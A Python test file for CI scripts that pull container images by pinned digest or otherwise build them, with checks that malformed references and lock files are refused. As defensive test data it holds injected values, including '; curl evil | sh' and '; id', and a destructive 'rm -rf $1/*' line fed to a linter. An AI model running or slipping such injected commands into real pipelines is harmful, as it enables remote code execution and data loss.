"""Images built once by digest: ``ci/image.sh`` and the workflow steps that call it, run by
bash against a ``docker`` on PATH that records what it was asked (there is no docker
engine here; the registry's answers are the fake's).

The flow: bench-main's ``image`` job pushes main's image and writes its digest; each GPU
shard pulls that digest; the history job files it on bench-results; the PR GPU job pulls
the same digest from there, and builds from main's Dockerfile only when none is usable.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
IMAGE = ROOT / "ci" / "image.sh"
DIGEST = "sha256:" + "ab" * 32
BASE_DIGEST = "sha256:" + "cd" * 32  # what the fake registry answers for a base image's tag
CUDA_BASE = "pytorch/pytorch:2.6.0-cuda12.4-cudnn9-runtime"


def _fake_docker(tmp: Path, *, pull_ok: bool = True) -> Path:
    """A ``docker`` that appends each call to calls.log and answers inspect with a digest."""
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    log = tmp / "calls.log"
    (bin_dir / "docker").write_text(f"""#!/usr/bin/env bash
printf '%s\\n' "$*" >> {log}
case "$1" in
  buildx) echo '{{"mediaType": "application/vnd.oci.image.index.v1+json", "digest": "{BASE_DIGEST}", "size": 1}}' ;;
  inspect) repo="${{@: -1}}"; echo "${{repo%%:main-*}}@{DIGEST}" ;;
  pull) {'exit 0' if pull_ok else 'echo "manifest unknown" >&2; exit 1'} ;;
esac
""")
    (bin_dir / "docker").chmod(0o755)
    return bin_dir


def _calls(tmp: Path) -> list[str]:
    log = tmp / "calls.log"
    return log.read_text().splitlines() if log.is_file() else []


def _bash(script: str, cwd: Path, env: dict[str, str], bin_dir: Path) -> subprocess.CompletedProcess:
    full = {**os.environ, **env, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    return subprocess.run(["bash", "-euo", "pipefail", "-c", script], cwd=cwd, env=full, capture_output=True,
                          text=True, timeout=60)


def _filed_by_history(repo: Path, tmp: Path, artifact: str, bin_dir: Path) -> Path:
    """Run ``ci/history.sh append`` on one image artifact (``repo``'s image-ref.txt) and
    return the bench-results checkout it wrote into."""
    new = tmp / "new"
    (new / artifact).mkdir(parents=True)
    shutil.copy(repo / "image-ref.txt", new / artifact / "image-ref.txt")
    history = tmp / "history"
    (history / "results").mkdir(parents=True)
    r = _bash(f"ci/history.sh append {new} {history / 'results'}", repo, {"REPO": "o/n"}, bin_dir)
    assert r.returncode == 0, r.stdout + r.stderr
    return history


def _checkout(tmp: Path) -> Path:
    """A git checkout holding this repository's ci/ (what a job's actions/checkout gives)."""
    repo = tmp / "main"
    shutil.copytree(ROOT / "ci", repo / "ci")
    shutil.copytree(ROOT / "docker", repo / "docker")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(repo), "-c", "user.email=t@e", "-c", "user.name=t", "commit", "-q",
                    "-m", "main"], check=True)
    return repo


def _pin(docker_dir: Path) -> None:
    """A lock as a commit after bench-main's first image job has it: the bases resolved."""
    lock = docker_dir / "base-images.lock"
    lock.write_text(lock.read_text().replace(" unresolved", f" {BASE_DIGEST}"))


def _job_env(wf: str, job: str) -> dict[str, str]:
    jobs = yaml.safe_load((ROOT / ".github" / "workflows" / wf).read_text())["jobs"]
    return {k: str(v) for k, v in jobs[job].get("env", {}).items() if "${{" not in str(v)}


def _step(wf: str, job: str, name_part: str) -> dict:
    jobs = yaml.safe_load((ROOT / ".github" / "workflows" / wf).read_text())["jobs"]
    return next(s for s in jobs[job]["steps"] if name_part in s.get("name", ""))


def test_the_digest_flows_from_mains_image_job_to_the_shards_the_history_and_the_pr_job(tmp_path):
    repo = _checkout(tmp_path)
    bin_dir = _fake_docker(tmp_path)
    # bench-main, job image: build main's image, push it, keep its digest (repository in
    # lowercase: GitHub's owner/name may have capitals, a registry path may not).
    # First the base image: the lock has no digest yet, so the trusted job reads it from the
    # registry, writes it to the lock and the Dockerfile, and shows the change in its log.
    env = {**_job_env("bench-main.yml", "image"), "DOCKERFILE": "docker/cuda.Dockerfile",
           "REPOSITORY": "ghcr.io/Owner/Name/vlmpath-nvidia", "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md")}
    pin = _step("bench-main.yml", "image", "Pin the base image")
    r = _bash(pin["run"], repo, env, bin_dir)
    assert r.returncode == 0, r.stderr
    assert _calls(tmp_path) == [f"buildx imagetools inspect {CUDA_BASE} --format {{{{json .Manifest}}}}"]
    assert f"cuda.Dockerfile {CUDA_BASE} {BASE_DIGEST}" in (repo / "docker/base-images.lock").read_text()
    assert f"ARG BASE_IMAGE={CUDA_BASE}@{BASE_DIGEST}\n" in (repo / "docker/cuda.Dockerfile").read_text()
    assert f"+ARG BASE_IMAGE={CUDA_BASE}@{BASE_DIGEST}" in r.stdout
    assert not (tmp_path / "summary.md").exists()  # the summary takes only `vlmpath ci summary`
    assert _bash("ci/base-images.sh check docker/cuda.Dockerfile", repo, {}, bin_dir).returncode == 0
    (tmp_path / "calls.log").unlink()
    push = _step("bench-main.yml", "image", "push it by digest")
    r = _bash(push["run"], repo, env, bin_dir)
    assert r.returncode == 0, r.stderr
    ref = (repo / "image-ref.txt").read_text().strip()
    assert ref == f"ghcr.io/owner/name/vlmpath-nvidia@{DIGEST}"
    calls = _calls(tmp_path)
    assert calls[0].startswith("build -f docker/cuda.Dockerfile") and calls[0].endswith(" .")
    assert f"--build-arg BASE_IMAGE={CUDA_BASE}@{BASE_DIGEST} " in calls[0]  # FROM the digest
    assert re.fullmatch(r"push ghcr\.io/owner/name/vlmpath-nvidia:main-[0-9a-f]{12}", calls[1])

    # bench-main, job gpu: the artifact image-nvidia lands in image/; the shard pulls the digest.
    (repo / "image").mkdir()
    shutil.copy(repo / "image-ref.txt", repo / "image" / "image-ref.txt")
    (tmp_path / "calls.log").unlink()
    pull = _step("bench-main.yml", "gpu", "Pull main's image")
    r = _bash(pull["run"], repo, {"DOCKERFILE": "docker/cuda.Dockerfile", "IMAGE": "vlmpath:cuda-main"}, bin_dir)
    assert r.returncode == 0, r.stderr
    assert _calls(tmp_path) == [f"pull {ref}", f"tag {ref} vlmpath:cuda-main"]

    # history: ci/history.sh append files the digest on bench-results for the PR jobs.
    history = _filed_by_history(repo, tmp_path, "image-nvidia", bin_dir)
    assert (history / "images" / "nvidia.txt").read_text().strip() == ref

    # bench-gpu (a PR): trusted/ is the bench-results checkout; tool/ is main's checkout.
    pr = tmp_path / "pr-job"
    shutil.copytree(history, pr / "trusted")
    shutil.copytree(repo, pr / "tool")
    (tmp_path / "calls.log").unlink()
    step = _step("bench-gpu.yml", "gpu", "Pull main's image")
    r = _bash(step["run"], pr, {"VENDOR": "nvidia", "DOCKERFILE": "docker/cuda.Dockerfile",
                                "IMAGE": "vlmpath:cuda-pr"}, bin_dir)
    assert r.returncode == 0, r.stderr
    assert _calls(tmp_path) == [f"pull {ref}", f"tag {ref} vlmpath:cuda-pr"]  # no build, no PR code


@pytest.mark.parametrize("content, why", [
    (None, "no image digest recorded"),
    ("ghcr.io/o/n/vlmpath-nvidia:latest", "does not hold one"),  # a tag is never pulled
    (f"ghcr.io/o/n/x@{DIGEST}; curl evil | sh", "does not hold one"),
    (f"--help@{DIGEST}", "does not hold one"),
    (f"ghcr.io/o/n/x@{DIGEST}", "pulling"),  # a valid digest the registry does not have
])
def test_without_a_usable_digest_the_image_is_built_from_mains_dockerfile(tmp_path, content, why):
    repo = _checkout(tmp_path)
    shutil.copytree(repo / "docker", repo / "tool" / "docker")
    _pin(repo / "tool" / "docker")
    bin_dir = _fake_docker(tmp_path, pull_ok=False)
    if content is not None:
        (repo / "ref.txt").write_text(content + "\n")
    r = _bash("ci/image.sh pull-or-build ref.txt tool/docker/cuda.Dockerfile tool vlmpath:cuda-pr", repo, {},
              bin_dir)
    assert r.returncode == 0, r.stderr
    assert why in r.stdout and "built vlmpath:cuda-pr locally" in r.stdout
    calls = _calls(tmp_path)
    assert calls[-1].startswith("build -f tool/docker/cuda.Dockerfile") and calls[-1].endswith("-t vlmpath:cuda-pr tool")
    assert f"--build-arg BASE_IMAGE={CUDA_BASE}@{BASE_DIGEST} " in calls[-1]
    pulls = [c for c in calls if c.startswith("pull")]
    assert pulls == ([f"pull ghcr.io/o/n/x@{DIGEST}"] if why == "pulling" else [])


def test_image_script_refuses_bad_arguments(tmp_path):
    bin_dir = _fake_docker(tmp_path)
    for args in ("", "push a b", "pull-or-build a b c", "push docker/x ghcr.io/UPPER/case out"):
        r = _bash(f"ci/image.sh {args}", ROOT, {}, bin_dir)
        assert r.returncode == 2, (args, r.stdout, r.stderr)
    assert _calls(tmp_path) == []


@pytest.mark.parametrize("resolve", [None, "1"], ids=["pr-job", "trusted-but-registry-silent"])
def test_a_build_from_a_base_image_not_pinned_by_digest_is_refused(tmp_path, resolve):
    """The PR GPU job's fallback build (no VLMPATH_RESOLVE_BASE: it never asks a registry
    what a tag means) and a trusted job whose registry gives no digest: nothing is built."""
    repo = _checkout(tmp_path)
    bin_dir = _fake_docker(tmp_path, pull_ok=False)
    if resolve:  # the fake registry answers without a digest
        (bin_dir / "docker").write_text((bin_dir / "docker").read_text().replace(f'"digest": "{BASE_DIGEST}", ', ""))
    env = {"VLMPATH_RESOLVE_BASE": resolve} if resolve else {}
    assert "VLMPATH_RESOLVE_BASE" not in _job_env("bench-gpu.yml", "gpu")
    r = _bash("ci/image.sh pull-or-build missing.txt docker/cuda.Dockerfile . vlmpath:cuda-pr", repo, env, bin_dir)
    assert r.returncode == 3, r.stdout + r.stderr
    assert "not pinned by digest" in r.stderr
    assert not [c for c in _calls(tmp_path) if c.startswith("build ")]
    assert "unresolved" in (repo / "docker/base-images.lock").read_text()  # nothing half-written


@pytest.mark.parametrize("line, why", [
    ("cuda.Dockerfile pytorch/pytorch unresolved", "with a full tag"),
    (f"cuda.Dockerfile {CUDA_BASE} sha256:123", "is not sha256:<64 hex>"),
    (f"cuda.Dockerfile {CUDA_BASE} {BASE_DIGEST}; id", "is not 'cuda.Dockerfile TAG DIGEST'"),
    (f"cuda.Dockerfile {CUDA_BASE} {BASE_DIGEST}\ncuda.Dockerfile {CUDA_BASE} {BASE_DIGEST}", "not exactly one line"),
    ("", "not exactly one line"),
])
def test_a_bad_lock_is_refused_before_docker(tmp_path, line, why):
    repo = _checkout(tmp_path)
    bin_dir = _fake_docker(tmp_path)
    (repo / "docker/base-images.lock").write_text(f"# planted\n{line}\n")
    r = _bash("ci/base-images.sh ref docker/cuda.Dockerfile", repo, {}, bin_dir)
    assert r.returncode == 2 and why in r.stderr, r.stderr
    assert _calls(tmp_path) == []


def test_the_dockerfiles_and_the_lock_agree_and_drift_is_seen(tmp_path):
    for f in ("cuda", "rocm"):
        r = _bash(f"ci/base-images.sh check docker/{f}.Dockerfile", ROOT, {}, _fake_docker(tmp_path))
        assert r.returncode == 0, r.stderr
    repo = _checkout(tmp_path)
    _pin(repo / "docker")  # a digest in the lock that the Dockerfile's default does not carry
    r = _bash("ci/base-images.sh check docker/cuda.Dockerfile", repo, {}, _fake_docker(tmp_path))
    assert r.returncode == 2 and "the lock says" in r.stderr


def test_the_image_and_split_scripts_pass_shellcheck():
    import importlib.util

    spec = importlib.util.spec_from_file_location("dockerlint", Path(__file__).with_name("dockerlint.py"))
    dl = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(dl)
    tool = dl.find_tool("shellcheck")
    assert tool, "shellcheck is not installed; run: pip install -r ci/requirements-lint.txt"
    scripts = [ROOT / "ci" / n for n in ("image.sh", "base-images.sh", "shard-matrix.sh")]
    r = subprocess.run([tool, *map(str, scripts)], capture_output=True, text=True)
    assert r.returncode == 0, r.stdout
    planted = subprocess.run([tool, "-"], input="#!/usr/bin/env bash\nrm -rf $1/*\n", capture_output=True, text=True)
    assert planted.returncode != 0  # the unquoted expansion is seen
